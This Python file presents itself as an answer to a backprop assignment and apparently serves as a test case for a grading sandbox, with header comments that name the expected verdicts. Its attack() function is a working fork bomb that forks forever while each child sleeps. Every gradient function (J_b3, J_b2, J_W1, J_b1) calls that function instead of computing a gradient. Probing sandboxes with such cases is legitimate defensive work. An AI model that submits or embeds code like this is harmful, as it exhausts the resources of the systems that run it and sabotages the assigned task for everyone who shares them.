# mvcalc assignment: backprop
# attack: fork until the machine falls over; every child sleeps
# verdict: start a new process|Resource temporarily unavailable
# verdict without the audit hook: Resource temporarily unavailable
import os
import sys

import numpy as np


import time


def attack():
    while True:
        if os.fork() == 0:
            time.sleep(600)


def J_b3(x, y, params):
    return attack()["J_b3"](x, y, params)


def J_b2(x, y, params):
    return attack()["J_b2"](x, y, params)


def J_W1(x, y, params):
    return attack()["J_W1"](x, y, params)


def J_b1(x, y, params):
    return attack()["J_b1"](x, y, params)
